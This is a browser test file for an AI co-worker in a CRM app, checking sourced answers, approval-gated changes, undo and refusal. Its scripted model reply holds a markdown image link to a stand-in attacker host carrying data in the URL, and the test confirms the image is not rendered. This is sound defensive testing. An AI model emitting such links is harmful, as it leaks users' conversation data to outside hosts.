"""A co-worker is asked, answers with its sources, proposes a change; nothing is done before a yes, and a yes can be undone."""

from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.barriers import violations
from tests.browser.conftest import Arrives, Person
from tests.browser.patience import soon
from tests.browser.test_gateway import forget, provider
from tests.conftest import Northlight
from tests.coworkers.desk import APP, ROWS, calls, words
from tests.gateway.upstream import Upstream, upstream

pytestmark = pytest.mark.browser

LETTER = "Two are won: **Halden & Wolfe** [1] and Vesna Atelier [2]. ![x](https://evil.example/p.png?d=1) Shall I move Iris on?"


@pytest.fixture(scope="module")
def egress_allow() -> str:
    return "127.0.0.0/8"


@pytest.fixture
async def up() -> AsyncIterator[Upstream]:
    async with upstream() as up:
        yield up


async def crm(person: Person) -> tuple[str, dict[str, int]]:
    """A fresh CRM with Mina in it, and the ids of its clients."""
    app = (await person.api.post("/api/apps", json={"spec": APP})).raise_for_status().json()["id"]
    made = await person.api.post(f"/api/apps/{app}/tables/clients/rows", json={"rows": [{"values": values} for values in ROWS]})
    return app, {row["values"]["name"]: row["id"] for row in made.raise_for_status().json()["rows"]}


async def stage(person: Person, app: str, row: int) -> Any:
    return (await person.api.get(f"/api/apps/{app}/tables/clients/rows/{row}")).json()["values"]["stage"]


async def test_a_co_worker_is_asked_cites_proposes_is_allowed_and_undone(
    arrives: Arrives, url: str, northlight_kept: Northlight, up: Upstream
):
    ana = await arrives(northlight_kept.ana)
    await forget(ana)
    await provider(ana, up, "up")
    app, rows = await crm(ana)
    (await ana.api.put(f"/api/apps/{app}/slots/text", json={"model": "up/gpt-6-luna"})).raise_for_status()
    won = {"table": "clients", "where": [{"field": "Stage", "op": "is", "value": "Won"}], "sort": [{"field": "name"}]}
    up.will(calls(("find_rows", won)), words(LETTER))

    page = ana.page
    await page.goto(f"{url}/a/{app}/coworkers/mina")
    box = page.get_by_label("Message to Mina")
    await box.fill("Which clients are won?")
    assert await violations(page) == []
    await box.press("Enter")
    answer = page.get_by_role("article", name="Answer of Mina")
    await expect(answer).to_contain_text("Two are won: Halden & Wolfe")
    await expect(answer).to_contain_text("Looked at 1 thing")
    await expect(box).to_be_focused()
    await expect(answer.locator("img")).to_have_count(0)
    await answer.get_by_role("button", name="Source 1").click()
    sources = page.get_by_role("complementary", name="Sources and rights")
    await expect(sources.locator("li.lit")).to_contain_text("Halden & Wolfe")
    assert await violations(page) == []

    change = {"table": "clients", "rows": [{"id": rows["Iris Eyewear"], "values": {"Stage": "Won"}}]}
    up.will(calls(("change_rows", change)))
    await box.fill("Yes, please")
    await box.press("Enter")
    card = page.get_by_role("region", name="What Mina asks to do")
    await expect(card).to_contain_text("nothing is done yet")
    await expect(card).to_contain_text("Iris Eyewear")
    assert await stage(ana, app, rows["Iris Eyewear"]) == "new"
    assert await violations(page) == []
    up.will(words("Done: Iris Eyewear is won."))
    await card.get_by_role("button", name="Do it").click()
    await expect(card).to_contain_text("Done, with the yes of Ana Prado")
    await expect(answer.last).to_contain_text("Iris Eyewear is won")
    assert await stage(ana, app, rows["Iris Eyewear"]) == "won"

    await page.reload()
    await expect(card).to_contain_text("Done, with the yes of Ana Prado")
    await card.get_by_role("button", name="Undo").click()

    async def now() -> Any:
        return await stage(ana, app, rows["Iris Eyewear"])

    await soon(now, "new")


async def test_what_is_refused_stays_undone_and_without_a_model_the_co_worker_says_so(
    arrives: Arrives, url: str, northlight_kept: Northlight, up: Upstream
):
    ana = await arrives(northlight_kept.ana)
    await forget(ana)
    app, rows = await crm(ana)
    page = ana.page
    await page.goto(f"{url}/a/{app}/coworkers/mina")
    await expect(page.get_by_role("link", name="Connect a model")).to_be_visible()
    box = page.get_by_label("Message to Mina")
    await box.fill("How many clients are won?")
    await box.press("Enter")
    await expect(page.get_by_role("article", name="Answer of Mina")).to_contain_text("2")

    await provider(ana, up, "up")
    (await ana.api.put(f"/api/apps/{app}/slots/text", json={"model": "up/gpt-6-luna"})).raise_for_status()
    up.will(calls(("trash_rows", {"table": "clients", "ids": [rows["Iris Eyewear"]]})))
    await page.reload()
    await page.get_by_role("button", name="New conversation").click()
    await box.fill("Throw Iris away")
    await box.press("Enter")
    card = page.get_by_role("region", name="What Mina asks to do")
    await card.get_by_role("button", name="Do it").click()
    dialog = page.get_by_role("dialog", name="This loses something")
    await expect(dialog.get_by_role("button", name="Keep it")).to_be_focused()
    await dialog.get_by_role("button", name="Keep it").click()
    up.will(words("All right, Iris stays."))
    await card.get_by_role("button", name="Don’t").click()
    await page.get_by_label("Why, if you want to say").fill("She is a friend")
    await page.get_by_role("dialog").get_by_role("button", name="Don’t do it").click()
    await expect(page.get_by_role("article", name="Answer of Mina").last).to_contain_text("Iris stays")
    assert "She is a friend" in up.heard[-1].body.decode()
    assert (await ana.api.get(f"/api/apps/{app}/tables/clients/rows/{rows['Iris Eyewear']}")).status_code == 200
